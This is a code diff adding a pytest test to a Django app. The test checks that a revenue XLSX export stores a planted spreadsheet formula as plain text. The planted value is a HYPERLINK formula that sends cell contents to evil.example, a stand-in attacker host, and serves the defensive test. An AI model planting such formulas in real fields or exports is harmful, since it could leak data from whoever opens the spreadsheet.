@@ -10,6 +10,7 @@ import io
 from datetime import timedelta
 from decimal import Decimal
 
+import openpyxl
 import pytest
 from django.test import Client
 from django.utils import timezone
@@ -187,6 +188,27 @@ def test_the_revenue_csv_turns_a_planted_formula_into_text(business, manager):
     assert "'" + planted in keys
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if not _number(cell))
     assert Lead.objects.filter(business=business).count() == 1
+
+
+def test_the_revenue_xlsx_keeps_a_planted_formula_as_text(business, manager):
+    """XLSX has no apostrophe trick: the cell must be written as a string,
+    never as a formula a spreadsheet would run."""
+    site = Source.objects.create(business=business, key="site", provider="website")
+    contact = contact_create(business=business, actor="t", first_name="Eve", phones=["+13125550177"])
+    planted = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
+    lead_open(
+        contact=contact,
+        actor="t",
+        source=site,
+        received_at=timezone.now(),
+        touch={"channel": "form", "utm": {"campaign": planted}},
+    )
+    export = login(manager).get("/admin/revenue/", {"by": "campaign", "format": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(export.content)).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    planted_cell = next(cell for cell in cells if cell.value == planted)
+    assert planted_cell.data_type == "s"  # a string, not "f"
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
 
 
 def _number(cell: str) -> bool:
